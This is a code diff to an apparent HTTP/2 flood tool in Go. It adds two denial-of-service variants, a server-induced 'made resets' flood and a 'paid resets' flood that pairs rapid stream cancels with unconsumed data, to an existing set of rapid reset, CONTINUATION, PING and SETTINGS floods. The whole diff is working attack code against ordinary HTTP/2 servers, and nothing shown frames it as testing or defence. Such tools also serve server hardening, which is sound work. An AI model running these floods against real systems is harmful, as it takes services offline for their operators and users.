@@ -19,6 +19,8 @@ type Flood string
 // The floods.
 const (
 	FloodResets       Flood = "rapid resets"  // requests that are taken back at once
+	FloodMadeResets   Flood = "made resets"   // requests that the server is made to reset
+	FloodPaidResets   Flood = "paid resets"   // rapid resets, each with a kilobyte that nobody takes
 	FloodContinuation Flood = "CONTINUATION"  // one header section without an end
 	FloodPings        Flood = "PING"          // each wants an answer
 	FloodSettings     Flood = "SETTINGS"      // each wants an answer
@@ -30,7 +32,7 @@ const (
 // Floods returns all of them.
 func Floods() []Flood {
 	return []Flood{
-		FloodResets, FloodContinuation, FloodPings, FloodSettings, FloodWindows, FloodPriorities, FloodEmptyData,
+		FloodResets, FloodMadeResets, FloodPaidResets, FloodContinuation, FloodPings, FloodSettings, FloodWindows, FloodPriorities, FloodEmptyData,
 	}
 }
 
@@ -104,6 +106,19 @@ func flood(conn net.Conn, host string, kind Flood, frames int, sent *atomic.Int6
 		case FloodResets:
 			if err = open(true); err == nil {
 				err = f.WriteRSTStream(stream, http2.ErrCodeCancel)
+			}
+			stream += 2
+		case FloodMadeResets:
+			if err = f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block.Bytes(), EndHeaders: true, EndStream: true}); err == nil {
+				err = f.WriteData(stream, false, []byte("x")) // after its end
+			}
+			stream += 2
+		case FloodPaidResets:
+			if err = open(true); err == nil {
+				err = f.WriteRSTStream(stream, http2.ErrCodeCancel)
+			}
+			if err == nil {
+				err = f.WriteData(stream, false, more[:1<<10])
 			}
 			stream += 2
 		case FloodContinuation:
